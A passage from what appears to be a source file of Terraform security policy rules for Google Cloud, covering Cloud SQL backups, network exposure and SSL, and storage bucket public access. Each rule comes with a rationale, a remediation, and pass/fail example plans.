          else "'${db.address}' has no automated backups (settings.backup_configuration.enabled is not true)"
          at first(bc_list).enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "master_instance_name": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "backup_configuration": [{"enabled": true, "point_in_time_recovery_enabled": true, "start_time": "02:00"}]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-custom-2-7680"},
               "backup_configuration": [{"enabled": {"constant_value": true}, "point_in_time_recovery_enabled": {"constant_value": true}}]}]}}]}}}
        """
        example pass "read replica" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.replica", "mode": "managed", "type": "google_sql_database_instance", "name": "replica",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-pg-replica", "master_instance_name": "acme-pg", "database_version": "POSTGRES_15",
                 "settings": [{"tier": "db-custom-2-7680", "backup_configuration": [{"enabled": false}]}]}}}]}
        """
        example fail "disabled" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-pg", "master_instance_name": null, "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "backup_configuration": [{"enabled": ↓false}]}]}}}]}
        """ expect "'google_sql_database_instance.main' has no automated backups"
        example fail "not written" """
          {"format_version": "1.2", "resource_changes": [
            ↓{"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro"}]},
               "after_unknown": {"id": true, "master_instance_name": true, "settings": [{"backup_configuration": true, "ip_configuration": true}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-f1-micro"}}]}}]}}}
        """ expect "has no automated backups"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "master_instance_name": null, "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro", "backup_configuration": [{}]}]},
               "after_unknown": {"id": true, "settings": [{"backup_configuration": [{"enabled": true}]}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_sql_open_to_world.plumb",
      text: #"""
      rule gcp_sql_open_to_world {
        title "Cloud SQL instances do not authorize the whole internet"
        severity critical
        category security
        tags [terraform, gcp, sql, database, network]
        rationale """
          An authorized network of `0.0.0.0/0` on an instance with a public IPv4 address lets every host
          on the internet open a connection to the database port. The instance is then one weak or
          leaked password (or one database-engine vulnerability) away from a breach, and database ports
          are constantly scanned and brute-forced.
        """
        remediation """
          Remove `0.0.0.0/0` from `settings.ip_configuration.authorized_networks`; list only the client
          ranges that need access, or set `ipv4_enabled = false` with a `private_network` and connect
          through the Cloud SQL Auth Proxy or private IP.
        """
        param open_ranges: list<string> = ["0.0.0.0/0", "0.0.0.0", "::/0"]

        for db in terraform.resource("google_sql_database_instance")
        when not is_null(db.after)
        let ipc_list = first(db.after.settings).ip_configuration
        # Computed when not written: public IPv4 without authorized networks.
        let ipc_unset = is_unknown(ipc_list) and exists(db.config) and not exists(first(db.config.settings).ip_configuration)
        let ipc = first(ipc_list)
        let open = filter(n in ipc.authorized_networks, trim(n.value) in param.open_ranges)
        require ipc_unset or ipc.ipv4_enabled == false or count(open) == 0
          else "'${db.address}' authorizes '${first(open).value}' (authorized network '${first(open).name}') on its public IP: any host on the internet can connect"
          at first(open).value

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "public_ip_address": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": true, "ssl_mode": "ENCRYPTED_ONLY",
                   "authorized_networks": [{"name": "office", "value": "203.0.113.0/24", "expiration_time": null}]}]}]}}}]}
        """
        example pass "private IP only" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "private_ip_address": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": false, "private_network": "projects/acme/global/networks/vpc",
                   "authorized_networks": [{"name": "legacy", "value": "0.0.0.0/0", "expiration_time": null}]}]}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "public_ip_address": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": true,
                   "authorized_networks": [{"name": "everyone", "value": ↓"0.0.0.0/0", "expiration_time": null}]}]}]}}}]}
        """ expect "'google_sql_database_instance.main' authorizes '0.0.0.0/0' (authorized network 'everyone') on its public IP"
        example indeterminate "authorized networks known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": true, "authorized_networks": [{"name": "ci"}]}]}]},
               "after_unknown": {"id": true, "public_ip_address": true,
                 "settings": [{"ip_configuration": [{"authorized_networks": [{"value": true}]}]}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_sql_ssl_not_enforced.plumb",
      text: #"""
      rule gcp_sql_ssl_not_enforced {
        title "Cloud SQL instances accept encrypted connections only"
        severity medium
        category security
        tags [terraform, gcp, sql, database, "encryption-in-transit"]
        rationale """
          By default Cloud SQL accepts unencrypted connections on its IP addresses (`ssl_mode =
          ALLOW_UNENCRYPTED_AND_ENCRYPTED`). Clients that connect directly, rather than through the
          Auth Proxy or a connector, then send database passwords and query results in clear text to
          anyone on the path, and many drivers fall back to plain connections silently.
        """
        remediation """
          Set `settings { ip_configuration { ssl_mode = "ENCRYPTED_ONLY" } }` (or
          `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`; provider versions before 5.x: `require_ssl = true`) on
          the `google_sql_database_instance`.
        """
        param enforced_modes: list<string> = ["ENCRYPTED_ONLY", "TRUSTED_CLIENT_CERTIFICATE_REQUIRED"]

        for db in terraform.resource("google_sql_database_instance")
        when not is_null(db.after)
        let ipc_list = first(db.after.settings).ip_configuration
        let ipc_config = first(first(db.config.settings).ip_configuration)
        # Computed when not written: unencrypted connections allowed.
        let ipc_unset = is_unknown(ipc_list) and exists(db.config) and not exists(first(db.config.settings).ip_configuration)
        let ipc = first(ipc_list)
        let mode_unset = is_unknown(ipc.ssl_mode) and exists(db.config) and not exists(ipc_config.ssl_mode)
        require not ipc_unset and (ipc.require_ssl == true or (not mode_unset and ipc.ssl_mode in param.enforced_modes))
          else "'${db.address}' accepts unencrypted connections: neither ssl_mode ENCRYPTED_ONLY/TRUSTED_CLIENT_CERTIFICATE_REQUIRED nor require_ssl is set"
          at default(ipc.ssl_mode, ipc.require_ssl)

        example pass "ssl_mode" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": false, "ssl_mode": "ENCRYPTED_ONLY", "authorized_networks": []}]}]}}}]}
        """
        example pass "require_ssl (provider 4.x)" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_13", "settings": [{"tier": "db-f1-micro",
                 "ip_configuration": [{"ipv4_enabled": true, "require_ssl": true, "authorized_networks": []}]}]}}}]}
        """
        example fail "unencrypted allowed" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-custom-2-7680",
                 "ip_configuration": [{"ipv4_enabled": true, "ssl_mode": ↓"ALLOW_UNENCRYPTED_AND_ENCRYPTED", "authorized_networks": []}]}]}}}]}
        """ expect "'google_sql_database_instance.main' accepts unencrypted connections"
        example fail "ip_configuration not written" """
          {"format_version": "1.2", "resource_changes": [
            ↓{"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro"}]},
               "after_unknown": {"id": true, "settings": [{"ip_configuration": true, "backup_configuration": true}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "expressions": {"name": {"constant_value": "acme-pg"}, "settings": [{"tier": {"constant_value": "db-f1-micro"}}]}}]}}}
        """ expect "accepts unencrypted connections"
        example indeterminate "ssl mode from a variable known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-pg", "database_version": "POSTGRES_15", "settings": [{"tier": "db-f1-micro",
                 "ip_configuration": [{"ipv4_enabled": true, "authorized_networks": []}]}]},
               "after_unknown": {"id": true, "settings": [{"ip_configuration": [{"ssl_mode": true}]}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_storage_bucket_public_access_prevention.plumb",
      text: #"""
      rule gcp_storage_bucket_public_access_prevention {
        title "Cloud Storage buckets enforce public access prevention"
        severity medium
        category security
        tags [terraform, gcp, storage, public-access]
        rationale """
          Public access prevention makes Cloud Storage refuse any IAM binding or ACL that names
          `allUsers` or `allAuthenticatedUsers`, and stops serving existing ones. Without it (`inherited`,
          the default) one mistaken `google_storage_bucket_iam_member` or object ACL publishes the data,
          unless an organization policy happens to enforce prevention; the bucket itself gives no
          guarantee.
        """
        remediation """
          Set `public_access_prevention = "enforced"` on the `google_storage_bucket` (buckets that really
          serve public content belong in a separate project, or behind Cloud CDN with signed URLs).
        """

        for b in terraform.resource("google_storage_bucket")
        when not is_null(b.after)
        let pap = b.after.public_access_prevention
        # Computed when not written: "inherited" from the organization policy.
        let pap_unset = is_unknown(pap) and exists(b.config) and not exists(b.config.public_access_prevention)
        require not exists(pap) or pap_unset or pap == "enforced"
          else "'${b.address}' does not enforce public access prevention (public_access_prevention = '${pap}')"
          at pap
          fix { set b.after.public_access_prevention = "enforced" }
        # Missing before provider 4.x, which cannot set it.
        require exists(pap) and not pap_unset
          else "'${b.address}' does not set public_access_prevention: it inherits the organization policy instead of enforcing prevention"
          fix { set b.after.public_access_prevention = "enforced" }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": true, "public_access_prevention": "enforced"}}}]}
        """
        example fail "inherited" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "acme-exports", "location": "EU", "public_access_prevention": ↓"inherited"}}}]}
        """ expect "'google_storage_bucket.exports' does not enforce public access prevention (public_access_prevention = 'inherited')"
        example fail "not written" """
          {"format_version": "1.2", "resource_changes": [
            ↓{"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-exports", "location": "EU"},
               "after_unknown": {"id": true, "self_link": true, "public_access_prevention": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "expressions": {"name": {"constant_value": "acme-exports"}, "location": {"constant_value": "EU"}}}]}}}
        """ expect "does not set public_access_prevention: it inherits the organization policy"
        example indeterminate "value known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-exports", "location": "EU"},
               "after_unknown": {"id": true, "self_link": true, "public_access_prevention": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_storage_bucket_public_iam.plumb",
      text: #"""
      rule gcp_storage_bucket_public_iam {
        title "Cloud Storage buckets are not granted to allUsers or allAuthenticatedUsers"
        severity critical
        category security
        tags [terraform, gcp, storage, iam, public-access]
        rationale """
          `allUsers` is anyone on the internet; `allAuthenticatedUsers` is anyone with any Google
          account, which anyone can create in a minute. A bucket role granted to either publishes the
          bucket (or, with write roles, lets strangers plant or delete objects); bucket scanners find such
          buckets by name guessing within days, and leaked exports, backups and credentials follow.
        """
        remediation """
          Remove the member from the `google_storage_bucket_iam_member`/`_binding`/`_policy`; grant
          the role to the groups or service accounts that need it, and serve genuinely public files
          through Cloud CDN or signed URLs. `public_access_prevention = "enforced"` on the bucket makes
          Cloud Storage refuse such grants.
        """
        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]

        for m in terraform.resource("google_storage_bucket_iam_member", "google_storage_bucket_iam_binding", "google_storage_bucket_iam_policy")
        when not is_null(m.after)
        # `member` (iam_member) or `members` (iam_binding).
        let public = filter(x in flatten([[m.after.member], default(m.after.members, [])]), trim(x) in param.public_principals)
        require count(public) == 0
          else "'${m.address}' grants '${m.after.role}' on bucket '${m.after.bucket}' to '${first(public)}'"
          at first(public)
        # iam_policy: the policy document is a JSON string.
        require not (m.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
          else "'${m.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
          at m.after.policy_data

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket_iam_member.reader", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "reader",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "member": "group:analysts@acme.example", "condition": []}}}]}
        """
        example fail "member" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket_iam_member.public", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "public",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"bucket": "acme-site", "role": "roles/storage.objectViewer", "member": ↓"allUsers", "condition": []}}}]}
        """ expect "'google_storage_bucket_iam_member.public' grants 'roles/storage.objectViewer' on bucket 'acme-site' to 'allUsers'"
        example fail "binding" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket_iam_binding.readers", "mode": "managed", "type": "google_storage_bucket_iam_binding", "name": "readers",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false, false]},
               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "members": ["group:analysts@acme.example", ↓"allAuthenticatedUsers"], "condition": []}}}]}
        """ expect "to 'allAuthenticatedUsers'"
        example fail "policy" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket_iam_policy.p", "mode": "managed", "type": "google_storage_bucket_iam_policy", "name": "p",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"bucket": "acme-exports", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allUsers\"],\"role\":\"roles/storage.objectViewer\"}]}"}}}]}
        """ expect "grants a role to allUsers or allAuthenticatedUsers in its policy_data"
        example indeterminate "member known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket_iam_member.reader", "mode": "managed", "type": "google_storage_bucket_iam_member", "name": "reader",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"bucket": "acme-exports", "role": "roles/storage.objectViewer", "condition": []},
               "after_unknown": {"id": true, "etag": true, "member": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_storage_bucket_uniform_access_disabled.plumb",
      text: #"""
      rule gcp_storage_bucket_uniform_access_disabled {
        title "Cloud Storage buckets use uniform bucket-level access"
        severity medium
        category security
        tags [terraform, gcp, storage, iam]
        rationale """
          Without uniform bucket-level access every object carries its own ACL, next to the bucket's
          IAM policy. Any writer can then publish a single object with `allUsers:READER` (or an upload
          tool's `publicRead` default), and nobody sees it in the bucket's IAM: audits, org policies and
          IAM Recommender all look at IAM only. Uniform access turns object ACLs off, so IAM alone
          decides who reads what.
        """
        remediation """
          Set `uniform_bucket_level_access = true` on the `google_storage_bucket` (provider 3.x:
          `bucket_policy_only = true`) and grant access with `google_storage_bucket_iam_*` instead of
          object ACLs.
        """

        for b in terraform.resource("google_storage_bucket")
        when not is_null(b.after)
        let ubla = b.after.uniform_bucket_level_access
        # Both are computed when not written; buckets then keep fine-grained (ACL) access unless an
        # organization policy says otherwise.
        let ubla_unset = is_unknown(ubla) and exists(b.config) and not exists(b.config.uniform_bucket_level_access)
        let bpo = b.after.bucket_policy_only
        let bpo_unset = is_unknown(bpo) and exists(b.config) and not exists(b.config.bucket_policy_only)
        require (not bpo_unset and bpo == true) or (not ubla_unset and ubla == true)
            or b.config.uniform_bucket_level_access.constant_value == true
          else "'${b.address}' does not enable uniform_bucket_level_access: per-object ACLs can grant access that IAM does not show"
          at ubla
          fix { set b.after.uniform_bucket_level_access = true }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": true, "public_access_prevention": "enforced"}}}]}
        """
        example fail "turned off" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "acme-exports", "location": "EU", "uniform_bucket_level_access": ↓false}}}]}
        """ expect "'google_storage_bucket.exports' does not enable uniform_bucket_level_access"
        example fail "not written" """
          {"format_version": "1.2", "resource_changes": [
            ↓{"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-exports", "location": "EU"},
               "after_unknown": {"id": true, "self_link": true, "uniform_bucket_level_access": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "expressions": {"name": {"constant_value": "acme-exports"}, "location": {"constant_value": "EU"}}}]}}}
        """ expect "does not enable uniform_bucket_level_access"
        example indeterminate "value from a variable known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-exports", "location": "EU"},
               "after_unknown": {"id": true, "self_link": true, "uniform_bucket_level_access": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_storage_bucket.exports", "mode": "managed", "type": "google_storage_bucket", "name": "exports",
             "expressions": {"name": {"constant_value": "acme-exports"},
                             "uniform_bucket_level_access": {"references": ["data.google_project.p.number", "data.google_project.p"]}}}]}}}
        """
      }

      """#),
  ]
}
